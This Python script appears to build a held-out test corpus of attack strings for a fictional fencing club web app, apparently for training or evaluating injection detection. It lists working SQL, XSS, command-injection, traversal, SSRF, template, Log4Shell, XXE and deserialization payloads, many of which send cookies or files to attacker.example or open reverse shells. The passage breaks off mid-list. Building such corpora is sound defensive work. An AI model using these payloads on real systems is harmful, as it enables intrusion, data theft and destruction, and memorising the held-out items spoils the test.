#!/usr/bin/env python3
"""Attack values for the fencingclub held-out corpus. Hand-written; stdlib only."""
import json
import os
import random

SEED = 30402
rng = random.Random(SEED)
HERE = os.path.dirname(os.path.abspath(__file__))

# (category, class, value)
A = []


def add(cat, cls, *vals):
    for v in vals:
        A.append((cat, cls, v))


# ---------------------------------------------------------------- sqli
add("sqli", "sqli-boolean",
    "Okafor' OR '1'='1",
    "Moreau' or 2>1 -- ",
    "pool 3' AND 1=1 AND 'x'='x",
    "épée' OR 'a'<>'b' #",
    "1041 OR 1=1",
    "1041) OR (1=1",
    "D'Angelo' oR 7=7-- -",
    "licence FR-123456' || '1'='1",
    "sabre' AND substring(@@version,1,1)='8",
    "O'Brien' AND (SELECT COUNT(*) FROM fencers)>0 AND 'q'='q",
    "3 AND ascii(substr((select password from users limit 1),1,1))>77",
    "Li' AND length(database())=9-- ",
)
add("sqli", "sqli-union",
    "Nakamura' UNION SELECT username, password_hash FROM coaches--",
    "pool' union all select null,null,table_name,null from information_schema.tables-- -",
    "1041 UNION SELECT 1,licence_no,email,4,5,6 FROM members",
    "-1 UnIoN SeLeCt group_concat(name,0x3a,dob),2 FROM fencers",
    "x') UNION SELECT column_name,2 FROM information_schema.columns WHERE table_name='referees'--",
    "foil' union/**/select/**/user(),version()#",
    "0 union distinct select 1,@@datadir,3",
    "épée%' UNION SELECT NULL,concat(login,':',pw) FROM admin_users -- x",
    "'/*!50000UNION*//*!50000SELECT*/ 1,2,3-- -",
    "Rossi' UNION SELECT sql,1 FROM sqlite_master--",
    "9999 UNION SELECT name, NULL FROM sys.databases--",
    "bracket' UNION(SELECT(pass)FROM(club_admins))#",
)
add("sqli", "sqli-stacked",
    "5-3'; DROP TABLE bouts;--",
    "Moreau'; UPDATE members SET role='admin' WHERE email='x@attacker.example';--",
    "1041; DELETE FROM rankings WHERE 1=1",
    "note'); INSERT INTO coaches(login,pw) VALUES('evil','x');--",
    "piste 2'; EXEC xp_cmdshell 'whoami';--",
    "3; TRUNCATE TABLE referee_cards --",
    "'; ALTER TABLE members ADD backdoor varchar(99);--",
    "x'; COPY (SELECT '') TO PROGRAM 'curl attacker.example/p|sh';--",
    "E-0142'; SHUTDOWN WITH NOWAIT;--",
    "score';CREATE USER evil IDENTIFIED BY 'pw';GRANT ALL ON *.* TO evil;--",
)
add("sqli", "sqli-time",
    "Dubois' AND SLEEP(5)-- ",
    "1041 AND (SELECT 1 FROM (SELECT SLEEP(7))a)",
    "pool 3'; WAITFOR DELAY '0:0:8'--",
    "Li' || pg_sleep(6)--",
    "x' AND 1=(SELECT 1 FROM pg_sleep(4))--",
    "1 AND BENCHMARK(9000000,MD5('touch'))",
    "Kim' AND IF(ascii(mid(user(),1,1))=114,sleep(3),0)-- -",
    "foil' AND 3=(CASE WHEN (1=1) THEN dbms_pipe.receive_message('a',6) ELSE 3 END)--",
    "2 OR randomblob(300000000)",
    "sabre'XOR(if(now()=sysdate(),sleep(5),0))XOR'z",
)
add("sqli", "sqli-error",
    "Haddad' AND extractvalue(1,concat(0x7e,(select database())))-- ",
    "1 AND updatexml(null,concat(0x3a,(select user())),null)",
    "x' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects))--",
    "Nowak' AND CAST((SELECT version()) AS int)=1--",
    "1 AND (select 1 from(select count(*),concat((select pw from admins limit 1),floor(rand(0)*2))x from information_schema.tables group by x)y)",
    "x' AND exp(~(select * from (select user())a))-- -",
    "3 and 1=ctxsys.drithsx.sn(1,(select banner from v$version where rownum=1))",
)
add("sqli", "sqli-obfuscated",
    "Moreau'/**/OR/**/1/**/=/**/1/**/--",
    "1041%27%20OR%20%271%27%3D%271",
    "Okafor%2527%2520union%2520select%25201%252C2--",
    "x'%0aUNION%0dSELECT%09pw,1%0aFROM%0cusers--",
    "ＯＲ　１＝１ｘ' OR ＇１＇＝＇１",
    "pool' oR/*trick*/'z'LIKE'z",
    "1 /*!OR*/ 1=1",
    "Li' AnD 0x31=0x31 -- ",
    "x'||(SELECT CHAR(65)||CHAR(66) FROM dual)||'",
    "'-(select(0)from(select(sleep(5)))v)-'",
    "Nakamura\\' OR 1=1-- ",
    "1 oR tRuE",
    "épée'=' OR ''='",
    "%bf%27 OR 1=1 -- ",
    "admin'--",
    "x' OR id IS NOT NULL ORDER BY 9-- ",
    "1 ORDER BY 12--",
    "winner=L' and (select substr(pw,1,1) from users where id=1)='a",
)
add("sqli", "sqli-oob",
    "x'; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\a';--",
    "1 UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT pw FROM users LIMIT 1),'.attacker.example\\\\x'))",
    "x' AND utl_http.request('http://attacker.example/'||(select user from dual)) IS NOT NULL--",
)
assert sum(1 for a in A if a[0] == "sqli") == 72, sum(1 for a in A if a[0] == "sqli")

SQLI_POOL = [
    "' OR '1'='1' -- ",
    "' UNION SELECT email,pw FROM members--",
    "'; DROP TABLE pools;--",
    "' AND SLEEP(5)#",
    "') OR ('1'='1",
    "' OR 1=1 LIMIT 1-- -",
    "' UNION SELECT NULL,version()--",
    "'; WAITFOR DELAY '0:0:6'--",
]
SQLI_PREFIX = ["Okafor", "pool 4", "épée", "1041", "Dubois", "T32", "Moreau", "foil"]

# ---------------------------------------------------------------- xss
add("xss", "xss-tag",
    "Great bout! <script>alert(document.cookie)</script>",
    "Okafor 5-3 <script src=//attacker.example/x.js></script>",
    "<img src=x onerror=alert(1)> nice lunge",
    "Pool 2 <svg onload=fetch('//attacker.example/c?'+document.cookie)>",
    "<body onload=alert`1`>",
    "note: <iframe src=javascript:alert(origin)></iframe>",
    "<details open ontoggle=alert(1)>parry 4</details>",
    "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>",
    "<video><source onerror=\"location='//attacker.example/?'+document.cookie\"></video>",
    "<audio src=1 onerror=confirm(2)>",
    "<marquee onstart=alert(3)>Club champion!</marquee>",
    "<object data=\"javascript:alert(4)\"></object>",
    "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    "<a href=\"javascript:alert(5)\">bracket PDF</a>",
    "[results](javascript:alert(document.domain))",
    "<form action=//attacker.example/steal><input name=pw type=password placeholder='Re-enter club password'></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(6)>",
    "<svg><animate onbegin=alert(7) attributeName=x dur=1s>",
    "<style>@import'//attacker.example/x.css';</style>",
    "<link rel=stylesheet href=//attacker.example/steal.css>",
    "<base href=//attacker.example/>",
    "<meta http-equiv=refresh content=\"0;url=//attacker.example/login\">",
    "<isindex type=image src=1 onerror=alert(8)>",
    "<select autofocus onfocus=alert(9)>",
    "<textarea onfocus=alert(10) autofocus>",
    "<keygen autofocus onfocus=alert(11)>",
    "<div onpointerover=\"alert(12)\">hover for scores</div>",
    "<img src=1 oNeRrOr=prompt(13)>",
    "<ScRiPt>alert(14)</sCrIpT>",
    "<scr<script>ipt>alert(15)</scr</script>ipt>",
    "<img/src/onerror=alert(16)>",
    "<svg/onload=alert(17)//",
    "<img src=\"x\"onerror=\"alert(18)\">",
    "<xss id=x tabindex=1 onfocusin=alert(19)></xss>",
    "<svg><a><rect width=100% height=100% /><animate attributeName=href values=javascript:alert(20) /></a></svg>",
    "<iframe srcdoc=\"&lt;script&gt;alert(21)&lt;/script&gt;\"></iframe>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(22)>\">",
    "<template><img src=x onerror=alert(23)></template><script>document.body.append(document.querySelector('template').content)</script>",
    "<table background=\"javascript:alert(24)\">",
    "<button formaction=javascript:alert(25)>Submit entry</button>",
)
add("xss", "xss-attr-breakout",
    "Dubois\" onmouseover=\"alert(26)",
    "Moreau' autofocus onfocus='alert(27)",
    "\"><script>alert(28)</script>",
    "'><img src=x onerror=alert(29)>",
    "Li\"><svg onload=alert(30)>",
    "x\" style=\"animation-name:rotation\" onanimationstart=\"alert(31)",
    "sabre\" accesskey=\"x\" onclick=\"alert(32)",
    "</title><script>alert(33)</script>",
    "</textarea><img src=1 onerror=alert(34)>",
    "--><script>alert(35)</script><!--",
)
add("xss", "xss-js-context",
    "';alert(36);//",
    "\";fetch('//attacker.example/'+localStorage.token);//",
    "</script><script>alert(37)</script>",
    "${alert(38)}",
    "\\';alert(39);//",
    "Okafor'-alert(40)-'",
    "1041};alert(41);{",
)
add("xss", "xss-encoded",
    "%3Cscript%3Ealert(42)%3C%2Fscript%3E",
    "%253Cimg%2520src%253Dx%2520onerror%253Dalert(43)%253E",
    "&lt;img src=x onerror=alert(44)&gt;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;45&#41;>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:alert(46)\">card</a>",
    "<a href=\"java&#x09;script:alert(47)\">x</a>",
    "\\u003cscript\\u003ealert(48)\\u003c/script\\u003e",
    "＜script＞alert(49)＜/script＞",
    "<img src=x onerror=\\u0061lert(50)>",
    "<svg><script>&#x61;lert(51)</script></svg>",
    "<a href=\"data:text/html,%3Cscript%3Ealert(52)%3C/script%3E\">export</a>",
    "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,53,41))>",
    "%u003Cscript%u003Ealert(54)%u003C/script%u003E",
    "<a href=\"  JaVaScRiPt:alert(55)\">ranking</a>",
    "<img src=x onerror=window['al'+'ert'](56)>",
    "<svg onload=top[/al/.source+/ert/.source](57)>",
    "<img src=x onerror=(alert)(58)>",
    "<img src=x onerror=import('//attacker.example/m.js')>",
    "<img src=x onerror=\"this.src='//attacker.example/?c='+document.cookie\">",
    "<svg onload=location=`javas`+`cript:alert(59)`>",
    "{{constructor.constructor('alert(60)')()}}",
    "<div ng-app ng-csp>{{$on.curry.call().alert(61)}}</div>",
    "<img src=x:x onerror=setTimeout('al'+'ert(62)')>",
)
assert sum(1 for a in A if a[0] == "xss") == 80, sum(1 for a in A if a[0] == "xss")

# ---------------------------------------------------------------- cmdi
add("cmdi", "cmdi-separator",
    "pool3.csv; cat /etc/passwd",
    "scores.csv && id",
    "export | nc attacker.example 4444",
    "box00342; wget http://attacker.example/b.sh -O /tmp/b; sh /tmp/b",
    "bracket.pdf || curl -s attacker.example/p | bash",
    "E-0142 & whoami",
    "piste2\nid",
    "piste2\r\ncat /etc/shadow",
    "pool_sheet.xlsx; rm -rf /var/www/exports",
    "2024-05-11_pool3; uname -a",
    "report.csv;ls${IFS}-la${IFS}/",
    "name.csv|/bin/sh -i",
    "scores; ping -c 5 203.0.113.7",
    "x & ping -n 10 198.51.100.4 &",
    "board.png; nslookup `whoami`.attacker.example",
    "; sleep 10 #",
    "| sleep 7",
    "blade.csv%0aid",
    "export.csv%0d%0acat%20/etc/hosts",
    "foil; echo ssh-rsa AAAAfake attacker >> ~/.ssh/authorized_keys",
    "club.csv; bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
    "x; python3 -c 'import socket,os;s=socket.socket();s.connect((\"198.51.100.2\",9001));os.dup2(s.fileno(),1);os.system(\"sh\")'",
    "z; php -r '$s=fsockopen(\"203.0.113.3\",80);exec(\"sh <&3 >&3 2>&3\");'",
    "p; perl -e 'system(\"id\")'",
    "log.txt; crontab -l",
    "file.csv; chmod 777 /etc/passwd",
    "pool3.csv && curl -F f=@/etc/passwd https://attacker.example/up",
    "x; tar czf - /home/club | curl -T - attacker.example",
    "bout1041; kill -9 -1",
    "2.csv;/usr/bin/env",
)
add("cmdi", "cmdi-substitution",
    "pool_$(id).csv",
    "scores_`whoami`.csv",
    "bracket$(curl attacker.example/x|sh).pdf",
    "`cat /etc/passwd`",
    "$(sleep 6)",
    "name=$(wget -qO- attacker.example/c)",
    "blade_${IFS}$(uname${IFS}-a)",
    "Okafor `nc -e /bin/sh 203.0.113.12 53`",
    "$(printf '\\x69\\x64')",
    "export-$(base64 -w0 /etc/shadow).csv",
    "$(echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh)",
    "<(curl attacker.example/s)",
    ">(nc 203.0.113.4 4444)",
)
add("cmdi", "cmdi-obfuscated",
    "pool3.csv;c''at /e't'c/pa''sswd",
    "x;w\\h\\o\\a\\m\\i",
    "score;/???/c?t /???/p??s??",
    "x;${PATH:0:1}bin${PATH:0:1}id",
    "box;{cat,/etc/passwd}",
    "f;cat</etc/passwd",
    "q;$u$(echo ID|tr A-Z a-z)",
    "a;X=$'\\x63\\x61\\x74';$X /etc/hosts",
    "r;rev<<<'dwssap/cte/ tac'|sh",
    "z;c\"a\"t /etc/passwd",
    "pool;IFS=,;`cat<<<uname,-a`",
    "t;/b[i]n/s[h] -c id",
)
add("cmdi", "cmdi-windows",
    "scores.csv & type C:\\Windows\\win.ini",
    "export.xlsx | powershell -nop -c \"iwr http://attacker.example/a.ps1|iex\"",
    "pool3 && certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe",
    "box & net user attacker P4ss! /add",
    "report || cmd /c dir C:\\Users",
    "x & powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
    "bracket.pdf & bitsadmin /transfer j http://attacker.example/b.exe C:\\ProgramData\\b.exe",
    "f & set /p=<C:\\inetpub\\wwwroot\\web.config",
    "name & %COMSPEC% /c whoami",
    "x & mshta http://attacker.example/h.hta",
    "e & rundll32 \\\\203.0.113.5\\s\\p.dll,Run",
    "sc & wmic process call create \"calc.exe\"",
    "z & c^m^d /c who^ami",
    "y | reg query HKLM\\SAM",
    "q && schtasks /create /sc minute /tn upd /tr \"cmd /c curl attacker.example\"",
    "v & for /f %i in ('whoami') do nslookup %i.attacker.example",
    "x; echo open 203.0.113.8>f&ftp -s:f",
)
assert sum(1 for a in A if a[0] == "cmdi") == 72, sum(1 for a in A if a[0] == "cmdi")

# ---------------------------------------------------------------- traversal
add("traversal", "traversal-dotdot",
    "../../../../etc/passwd",
    "exports/../../../etc/shadow",
    "pool3.csv/../../../../../proc/self/environ",
    "..\\..\\..\\windows\\win.ini",
    "brackets/..\\..\\..\\..\\boot.ini",
    "../../../../var/www/fencingclub/.env",
    "../../config/database.yml",
    "../../../../home/club/.ssh/id_rsa",
    "....//....//....//etc/passwd",
    "..././..././..././etc/hosts",
    "....\\\\....\\\\....\\\\windows\\\\system.ini",
    "/var/www/exports/../../../../etc/group",
    "2024/05/../../../../../../root/.bash_history",
    "../../../../proc/self/cmdline",
    "../../../../../var/log/nginx/access.log",
    "../WEB-INF/web.xml",
    "..;/..;/admin/config",
    "/static/..%2f..%2f..%2fetc/passwd",
    "images/../../../../../usr/local/etc/php/php.ini",
    "avatar.png/../../../../../etc/passwd",
)
add("traversal", "traversal-encoded",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%afetc/passwd",
    "..%c1%9c..%c1%9cwindows%c1%9cwin.ini",
    "%u002e%u002e%u2215%u002e%u002e%u2215etc/passwd",
    "..%5c..%5c..%5cwindows%5cwin.ini",
    "．．／．．／．．／etc／passwd",
    "%2e%2e/%2e%2e/%2e%2e/etc/shadow",
    "..%255c..%255c..%255cboot.ini",
    "..%e0%80%af..%e0%80%afetc%e0%80%afpasswd",
    "..%2F..%2F..%2F..%2Fproc%2Fself%2Fenviron",
    "../../../etc/passwd%00.csv",
    "../../../../etc/passwd\\u0000.pdf",
    "..%00/..%00/etc/passwd",
)
add("traversal", "traversal-absolute",
    "/etc/passwd",
    "file:///etc/passwd",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "\\\\203.0.113.6\\share\\x.csv",
    "/proc/self/fd/3",
    "php://filter/convert.base64-encode/resource=../config.php",
    "zip://uploads/pool.zip%23../../shell.php",
    "/dev/tcp/203.0.113.2/80",
    "phar://uploads/avatar.jpg/test.txt",
    "expect://id",
)
assert sum(1 for a in A if a[0] == "traversal") == 44, sum(1 for a in A if a[0] == "traversal")

TRAV_POOL = [
    "../../../../etc/passwd",
    "../../../windows/win.ini",
    "../../../../proc/self/environ",
    "../../.env",
    "../../../../root/.ssh/id_rsa",
    "../../../var/log/auth.log",
]
TRAV_PREFIX = ["exports/", "brackets/", "avatars/", "scores/2024/", "notices/", "repairs/"]

# ---------------------------------------------------------------- ssrf
add("ssrf", "ssrf-internal",
    "http://127.0.0.1:8080/admin",
    "http://localhost/server-status",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
    "http://metadata.google.internal/computeMetadata/v1/?recursive=true",
    "http://10.0.0.5:9200/_cat/indices",
    "http://192.168.1.1/cgi-bin/config.exp",
    "http://172.16.4.20:2375/containers/json",
    "http://127.0.0.1:6379/",
    "http://[::1]:5432/",
    "https://127.0.0.1:8443/actuator/env",
    "http://localhost:9000/minio/admin/v3/info",
    "http://kubernetes.default.svc/api/v1/namespaces/default/secrets",
    "http://consul.service.internal:8500/v1/kv/?recurse",
    "http://169.254.170.2/v2/credentials/",
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://192.168.0.10:8161/admin/",
    "http://10.1.2.3:8500/v1/agent/self",
)
add("ssrf", "ssrf-obfuscated-ip",
    "http://2130706433/admin",
    "http://0x7f000001:8080/",
    "http://0177.0.0.1/",
    "http://127.1/",
    "http://0/",
    "http://[::ffff:127.0.0.1]/",
    "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
    "http://2852039166/latest/user-data",
    "http://0xa9.0xfe.0xa9.0xfe/latest/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    "http://①②⑦.⓪.⓪.①/",
    "http://127.0.0.1.attacker.example/",
    "http://0251.0376.0251.0376/",
    "http://[0:0:0:0:0:ffff:7f00:1]:8080/",
)
add("ssrf", "ssrf-scheme-trick",
    "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20curl%20attacker.example|sh%5Cn%22%0D%0ASAVE",
    "dict://127.0.0.1:11211/stats",
    "file:///var/www/fencingclub/config.php",
    "ftp://10.0.0.8/pub/",
    "ldap://127.0.0.1:389/dc=club",
    "http://attacker.example@127.0.0.1/admin",
    "http://127.0.0.1#@fencingclub.example/",
    "http://fencingclub.example.attacker.example/redirect?to=http://169.254.169.254/",
    "https://attacker.example/302?url=http://localhost:8080/manager/html",
    "http://localtest.me:8080/internal",
    "jar:http://attacker.example/x.jar!/",
    "netdoc:///etc/passwd",
    "http://127.0.0.1:25/%0D%0AHELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>",
    "http://[fd00::1]:8080/",
    "http://0.0.0.0:3000/api/admin",
    "http://scores-db.internal:5984/_all_dbs",
    "https://scores.fencingclub.example/api/v1/fetch?src=http://127.0.0.1:2379/v2/keys",
    "http://203.0.113.50/rebind-to-127",
)
assert sum(1 for a in A if a[0] == "ssrf") == 50, sum(1 for a in A if a[0] == "ssrf")

# ---------------------------------------------------------------- code
add("code", "ssti",
    "Congrats {{7*'7'}} on the win",
    "Dear {{ config.items() }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}",
    "{{ self._TemplateReference__context.joiner.__init__.__globals__.os.popen('ls').read() }}",
    "${7*7} medals",
    "<%= `id` %>",
    "<%= system('cat /etc/passwd') %>",
    "#{7*7}",
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "${T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($r=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$r",
    "{{= it.constructor.constructor('return process')().mainModule.require('child_process').execSync('id') }}",
    "{php}echo `id`;{/php}",
    "{system('ls')}",
    "{{['id']|filter('system')}}",
    "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
    "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "#{''.class.forName('java.lang.Runtime').getMethod('exec',''.class).invoke(''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}",
    "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}",
)
add("code", "expression-language",
    "${applicationScope}",
    "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}",
    "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
    "#{facesContext.externalContext.request.getSession()}",
    "${pageContext.request.getSession().setAttribute('admin',true)}",
    "%{#a=new java.lang.ProcessBuilder({'id'}).start()}",
    "${@java.lang.Runtime@getRuntime().exec(\"whoami\")}",
    "#{session.setAttribute(\"role\",\"admin\")}",
)
add("code", "log4shell",
    "${jndi:ldap://attacker.example:1389/a}",
    "Okafor ${jndi:rmi://203.0.113.20/Exploit}",
    "${${lower:j}ndi:${lower:l}dap://attacker.example/x}",
    "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.3/o}",
    "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}",
    "Pool 3 notes ${jndi:ldaps://x.attacker.example/${sys:java.version}}",
    "${j${k8s:k5:-ND}i:ldap://attacker.example/q}",
    "$%7Bjndi:ldap://attacker.example/b%7D",
)
add("code", "eval-injection",
    "__import__('os').system('id')",
    "require('child_process').exec('curl attacker.example|sh')",
    "eval(compile('import os;os.system(\"id\")','x','exec'))",
    "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')",
    "5);system('id');//",
    "');file_put_contents('s.php','<?php system($_GET[c]);?>');//",
    "<?php echo shell_exec($_GET['c']); ?>",
    "exec(\"import urllib.request as u;u.urlopen('http://attacker.example/'+open('/etc/passwd').read())\")",
    "Function('return this')().process.exit()",
    "Runtime.getRuntime().exec(\"sh -c id\")",
    "os.popen('cat /app/.env').read()",
    "\"+require('fs').readdirSync('/')+\"",
)
add("code", "prototype-pollution",
    "{\"__proto__\": {\"isAdmin\": true}}",
    "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}",
    "__proto__[isReferee]=true",
    "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//",
    "{\"settings\":{\"__proto__\":{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}}",
    "__proto__.toString=1",
    "{\"__proto__\":{\"polluted\":\"yes\",\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}",
)
add("code", "csv-formula",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://attacker.example/?d=\"&A2&B2,\"Click for results\")",
    "+cmd|'/c powershell iwr attacker.example/p.ps1|iex'!A1",
    "-2+3+cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=WEBSERVICE(\"http://attacker.example/x?\"&A1)",
    "=IMPORTXML(CONCAT(\"https://attacker.example/?\",B2:B40),\"//a\")",
    "Okafor;=DDE(\"cmd\";\"/C calc\";\"x\")",
    "\"=1+1\";\"=cmd|'/C whoami'!A1\"",
    "\t=HYPERLINK(\"https://attacker.example/login\",\"Update licence\")",
)
add("code", "xxe",
    "<?xml version=\"1.0\"?><!DOCTYPE s [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><score left=\"&x;\" right=\"3\"/>",
    "<!DOCTYPE p [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><pool/>",
    "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY e SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><result>&e;</result>",
    "<!DOCTYPE bout [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\">]><bout>&c;</bout>",
    "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY s SYSTEM \"php://filter/read=convert.base64-encode/resource=/var/www/config.php\">]><x>&s;</x>",
)
add("code", "deserialization",
    "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvcklAAHhwP0AAAAAAAAx3CAAAABAAAAABc3IADGphdmEubmV0LlVSTA==",
    "!!python/object/apply:os.system [\"curl attacker.example/s|sh\"]",
    "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$values\":[\"cmd\",\"/c calc\"]}}",
    "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/e\",\"autoCommit\":true}",
    "cos\nsystem\n(S'id'\ntR.",
    "a:2:{i:0;O:12:\"ScoreExporter\":1:{s:4:\"path\";s:15:\"/tmp/shell.php\";}i:1;s:1:\"x\";}",
    "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}",
    "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::Requirement\nrequirements: !ruby/object:Gem::DependencyList\n  specs: [!ruby/object:Gem::Source::SpecificFile {spec: &1 !ruby/object:Gem::StubSpecification {loaded_from: \"|id 1>&2\"}}]",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/y.jar\"]]]]",
)
assert sum(1 for a in A if a[0] == "code") == 87, sum(1 for a in A if a[0] == "code")

# ---------------------------------------------------------------- nosqli
add("nosqli", "nosqli-operator",
    "{\"$ne\": null}",
    "{\"licence\": {\"$gt\": \"\"}}",
    "{\"username\": \"admin\", \"password\": {\"$ne\": \"x\"}}",
    "{\"$where\": \"sleep(5000) || true\"}",
    "{\"name\": {\"$regex\": \"^Ok\", \"$options\": \"i\"}, \"pw\": {\"$regex\": \"^a\"}}",
    "password[$ne]=1",
    "login[$regex]=.*&pass[$exists]=true",
    "{\"$or\": [{\"role\": \"admin\"}, {\"1\": 1}]}",
    "{\"score\": {\"$where\": \"this.pw.length > 0\"}}",
    "';return this.role=='admin';var z='",
    "' || '1'=='1",
    "Okafor'; while(true){}; '",
    "{\"$expr\": {\"$function\": {\"body\": \"function(){return true}\", \"args\": [], \"lang\": \"js\"}}}",
    "email[$in][]=admin@fencingclub.example&email[$in][]=x",
    "{\"$lookup\": {\"from\": \"coaches\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"c\"}}",
    "{\"rank\": {\"$nin\": []}}",
    "{\"pool\": 3, \"$comment\": \"x\", \"pw\": {\"$gte\": \" \"}}",
    "filter[pw][$regex]=^.{8}$",
    "{\"_id\": {\"$gt\": {\"$oid\": \"000000000000000000000000\"}}}",
    "this.constructor.constructor('return process')().exit()",
    "{\"$where\": \"function(){ return obj.credit_card.match(/^4/) }\"}",
    "[$ne]=Okafor",
    "{\"selector\": {\"pw\": {\"$gt\": null}}}",
    "{\"name\":\"Li\",\"$and\":[{\"pw\":{\"$type\":2}}]}",
    "db.members.find({}).forEach(function(d){print(d.pw)})",
    "{\"email\": {\"$regex\": \"@\"}, \"isAdmin\": {\"$exists\": true}}",
    "sort[$natural]=-1&limit=1000&pw[$ne]=",
)
assert sum(1 for a in A if a[0] == "nosqli") == 27, sum(1 for a in A if a[0] == "nosqli")

# ---------------------------------------------------------------- crlf
add("crlf", "crlf-log-forging",
    "Okafor 5-3\n2024-05-11 10:15:00 INFO admin login succeeded user=root",
    "pool 3 done\r\n[ALERT] scoring box 00342 tampered - approved by DT",
    "Moreau%0a2024-05-11T10:20:00Z level=info msg=\"card revoked\" ref=Laurent",
    "E-0142 returned%0d%0aINFO repair ticket #311 closed by admin",
    "touch_left\n127.0.0.1 - - [11/May/2024:10:00:00] \"GET /admin HTTP/1.1\" 200",
    "Li\u2028audit: ranking reset by superuser",
    "bout 1041%0aWARN payment refunded €500 to IBAN XX00FAKE",
)
add("crlf", "crlf-header",
    "fr%0d%0aSet-Cookie: session=attacker; Path=/",
    "en\r\nLocation: https://attacker.example/login",
    "pool3.csv%0d%0aContent-Disposition: attachment; filename=update.exe",
    "/brackets%0D%0AX-Forwarded-For:%20127.0.0.1",
    "de%0d%0aAccess-Control-Allow-Origin: https://attacker.example%0d%0aAccess-Control-Allow-Credentials: true",
    "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1",
    "lang=es%0d%0a%0d%0a<script>alert(1)</script>",
    "rankings%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>Club%20closed</h1>",
    "notices\r\n\r\n<html><body>Federation login moved: <a href=//attacker.example>here</a></body></html>",
    "x%0aRefresh: 0; url=//attacker.example",
    "ja%0d%0aX-XSS-Protection:%200",
    "%0d%0aContent-Security-Policy:%20script-src%20*",
)
add("crlf", "crlf-mail-header",
